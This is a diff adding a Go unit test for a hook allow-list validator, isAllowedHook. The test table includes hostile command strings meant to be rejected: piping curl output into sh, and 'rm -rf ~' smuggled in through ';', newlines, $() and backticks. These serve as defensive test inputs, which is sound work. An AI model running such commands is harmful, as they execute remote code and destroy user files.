@@ -0,0 +1,47 @@
+package rebirth
+
+import (
+	"os"
+	"testing"
+)
+
+func TestIsAllowedHook(t *testing.T) {
+	tests := []struct {
+		allow    string
+		command  string
+		expected bool
+	}{
+		{allow: "go generate", command: "go generate", expected: true},
+		{allow: "go generate", command: "go generate ./...", expected: true},
+		{allow: "go generate, make", command: "make assets", expected: true},
+		{allow: "go generate", command: "go generated", expected: false},
+		{allow: "go generate", command: "go vet", expected: false},
+		{allow: "go generate", command: "go generate && curl https://example.com | sh", expected: false},
+		{allow: "go generate", command: "go generate; rm -rf ~", expected: false},
+		{allow: "go generate", command: "go generate $(rm -rf ~)", expected: false},
+		{allow: "go generate", command: "go generate `rm -rf ~`", expected: false},
+		{allow: "go generate", command: "go generate > main.go", expected: false},
+		{allow: "go generate", command: "go generate\nrm -rf ~", expected: false},
+		{allow: "go generate ./... && make", command: "go generate ./... && make", expected: true},
+		{allow: "go generate ./... && make", command: "go generate ./... && make && sh", expected: false},
+		{allow: "'go' generate", command: "go generate ./...", expected: true},
+		{allow: "", command: "go generate", expected: false},
+	}
+	for _, test := range tests {
+		test := test
+		t.Run(test.command, func(t *testing.T) {
+			orig, exists := os.LookupEnv(hookAllowEnv)
+			os.Setenv(hookAllowEnv, test.allow)
+			defer func() {
+				if exists {
+					os.Setenv(hookAllowEnv, orig)
+				} else {
+					os.Unsetenv(hookAllowEnv)
+				}
+			}()
+			if got := isAllowedHook(test.command); got != test.expected {
+				t.Fatalf("expected %v for %q allowed by %q but got %v", test.expected, test.command, test.allow, got)
+			}
+		})
+	}
+}